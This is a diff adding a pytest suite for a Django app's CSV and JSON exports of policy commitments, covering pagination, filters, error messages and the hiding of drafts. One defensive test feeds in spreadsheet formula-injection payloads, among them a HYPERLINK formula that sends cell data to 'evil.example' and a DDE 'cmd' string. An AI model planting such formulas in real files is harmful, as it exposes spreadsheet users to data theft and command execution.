@@ -1,0 +1,196 @@
+"""CSV and JSON exports: the list's rows, same filters, all pages, safe in a spreadsheet."""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+from datetime import date
+
+import pytest
+
+from commitments.exports import COLUMNS
+
+from . import factories
+
+pytestmark = pytest.mark.django_db
+
+
+def list_slugs(client, query: str) -> list[str]:
+    """Slugs the list shows for ``query``, page by page as a reader pages through it."""
+    slugs, page = [], 1
+    while True:
+        response = client.get(f"/commitments/?{query}&page={page}")
+        assert response.status_code == 200
+        slugs += [c.slug for c in response.context["page"].object_list]
+        if not response.context["page"].has_next():
+            return slugs
+        page += 1
+
+
+def read_csv(client, query: str = "") -> list[dict]:
+    response = client.get(f"/commitments/export.csv?{query}")
+    assert response.status_code == 200
+    assert response["Content-Type"] == "text/csv; charset=utf-8"
+    assert 'attachment; filename="commitments.csv"' in response["Content-Disposition"]
+    content = b"".join(response.streaming_content).decode("utf-8")
+    assert content.startswith("\ufeff")
+    reader = csv.DictReader(io.StringIO(content.lstrip("\ufeff")))
+    assert reader.fieldnames == COLUMNS
+    return list(reader)
+
+
+def read_json(client, query: str = "") -> list[dict]:
+    response = client.get(f"/commitments/export.json?{query}")
+    assert response.status_code == 200
+    assert response["Content-Type"] == "application/json"
+    return json.loads(b"".join(response.streaming_content))["commitments"]
+
+
+@pytest.fixture
+def many(catalogue):
+    """The catalogue plus 30 more commitments, so the list runs to two pages and more."""
+    ns = catalogue
+    for i in range(30):
+        c = factories.commitment(slug=f"extra-{i:02d}", title=f"Extra commitment {i:02d}", source=ns.statement,
+                                 date_made=date(2020, 1, 1), due_date=date(2021 + i % 5, 1, 1))
+        c.themes.set([ns.pcve] if i % 2 else [ns.borders])
+        c.countries.set([ns.kz, ns.uz] if i % 3 else [ns.tj])
+        if i % 4 == 0:
+            factories.update(c, status="achieved" if i % 8 == 0 else "in_progress", as_of=date(2022, 1, 1 + i % 28),
+                             published=True)
+        if i % 5 == 0:
+            factories.update(c, status="abandoned", as_of=date(2023, 1, 1), summary="SECRETDRAFTSUMMARY extra")
+    return ns
+
+
+QUERIES = [
+    "",
+    "sort=-due",
+    "sort=updated",
+    "theme=pcve",
+    "theme=pcve&theme=border-management&country=kz&sort=due",
+    "status=in_progress&status=not_assessed",
+    "overdue=1",
+    "stale=1&sort=-updated",
+    "as_of=2021-06-01",
+    "as_of=2022-01-10&status=in_progress",
+    "q=extra+commitment&due_before=2023-01-01",
+    "source=joint-statement-2021&page=2",
+]
+
+
+@pytest.mark.parametrize("query", QUERIES)
+def test_exports_give_exactly_the_rows_of_the_list_over_all_pages(client, many, query):
+    expected = list_slugs(client, query.replace("&page=2", ""))
+    assert len(expected) == len(set(expected))
+    assert [row["slug"] for row in read_csv(client, query)] == expected
+    assert [row["slug"] for row in read_json(client, query)] == expected
+
+
+def test_the_unfiltered_export_runs_past_the_first_page(client, many):
+    assert len(list_slugs(client, "")) == 35
+    assert client.get("/commitments/").context["page"].paginator.num_pages == 2
+    assert len(read_csv(client)) == 35 and len(read_json(client)) == 35
+
+
+def test_csv_columns_and_values(client, catalogue):
+    rows = {row["slug"]: row for row in read_csv(client)}
+    expert = rows["deploy-ct-expert"]
+    assert expert == {
+        "slug": "deploy-ct-expert",
+        "title": "Deploy a dedicated CT expert",
+        "status": "achieved",
+        "status_label": "Achieved",
+        "status_as_of": "2022-03-01",
+        "due_date": "2020-12-31",
+        "overdue": "no",
+        "date_made": "2019-05-15",
+        "statement_type": "pledge",
+        "themes": "pcve",
+        "countries": "kz; kg",  # by name: Kazakhstan, Kyrgyzstan
+        "actors": "EEAS",
+        "source": "eu-strategy-2019",
+        "source_url": "https://example.org/strategy-2019",
+        "url": "http://testserver/commitments/deploy-ct-expert/",
+    }
+    assert rows["border-management-programme"]["overdue"] == "yes"
+    assert rows["cut-terrorism-financing"]["status"] == "not_assessed"
+    assert rows["cut-terrorism-financing"]["status_as_of"] == ""
+    assert rows["cut-terrorism-financing"]["actors"] == "European Commission; OSCE"
+
+
+def test_json_columns_and_values(client, catalogue):
+    rows = {row["slug"]: row for row in read_json(client)}
+    assert set(rows["deploy-ct-expert"]) == set(COLUMNS)
+    assert rows["deploy-ct-expert"]["countries"] == ["kz", "kg"]
+    assert rows["deploy-ct-expert"]["overdue"] is False
+    assert rows["border-management-programme"]["overdue"] is True
+    assert rows["cut-terrorism-financing"]["status_as_of"] is None
+    assert rows["reintegrate-returning-families"]["status_label"] == "Partially achieved"
+
+
+def test_as_of_is_applied_to_the_exported_status_and_overdue_flag(client, catalogue):
+    for rows in (read_csv(client, "as_of=2021-01-15"), read_json(client, "as_of=2021-01-15")):
+        by_slug = {row["slug"]: row for row in rows}
+        assert list(by_slug) == ["deploy-ct-expert", "exchange-pcve-practice", "reintegrate-returning-families"]
+        expert = by_slug["deploy-ct-expert"]
+        assert (expert["status"], expert["status_label"], expert["status_as_of"]) == (
+            "in_progress", "In progress", "2020-06-01")
+        assert expert["overdue"] in ("yes", True)
+        assert by_slug["exchange-pcve-practice"]["status"] == "not_assessed"
+
+
+@pytest.mark.parametrize(
+    ("title", "expected"),
+    [
+        ('=HYPERLINK("http://evil.example/?x="&A1,"click")', '\'=HYPERLINK("http://evil.example/?x="&A1,"click")'),
+        ("+1+2", "'+1+2"),
+        ("-2+3", "'-2+3"),
+        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
+        ("Plain = title", "Plain = title"),
+    ],
+)
+def test_csv_neutralises_formula_cells(client, db, title, expected):
+    src = factories.source(slug="src", title="=cmd|' /C calc'!A0", url="https://example.org/x")
+    c = factories.commitment(slug="formula", title=title, source=src)
+    c.actors.set([factories.actor(slug="a", name="-Minus actor")])
+    (row,) = read_csv(client)
+    assert row["title"] == expected
+    assert row["actors"] == "'-Minus actor"
+    # JSON is data, not a spreadsheet: the title comes out as typed.
+    assert read_json(client)[0]["title"] == title
+
+
+@pytest.mark.parametrize(
+    ("query", "message"),
+    [
+        ("due_after=2020-13-01", "due_after: Enter a valid date."),
+        ("status=bogus", "status: Select a valid choice. bogus is not one of the available choices."),
+        ("theme=nope", "theme: Select a valid choice. nope is not one of the available choices."),
+        ("as_of=2999-01-01", "as_of: The as-of date cannot be in the future."),
+        ("due_after=2023-01-01&due_before=2022-01-01", "due_before: “Due on or before” must not be earlier"),
+        ("q=" + "x" * 10_000, "q: Ensure this value has at most 200 characters"),
+    ],
+)
+@pytest.mark.parametrize("fmt", ["csv", "json"])
+def test_invalid_filters_give_400_text(client, catalogue, query, message, fmt):
+    response = client.get(f"/commitments/export.{fmt}?{query}")
+    assert response.status_code == 400
+    assert response["Content-Type"] == "text/plain; charset=utf-8"
+    body = response.content.decode()
+    assert body.startswith("Bad request:")
+    assert message in body
+
+
+def test_drafts_archived_and_draft_updates_are_absent(client, many):
+    for content in (
+        b"".join(client.get("/commitments/export.csv").streaming_content).decode(),
+        b"".join(client.get("/commitments/export.json").streaming_content).decode(),
+        b"".join(client.get("/commitments/export.csv?theme=returnees&country=tm").streaming_content).decode(),
+    ):
+        for secret in many.hidden_text:
+            assert secret not in content
+        assert "draft-commitment" not in content and "archived-commitment" not in content
+    # The draft "abandoned" updates of the extras change nothing.
+    assert all(row["status"] != "abandoned" for row in read_json(client))
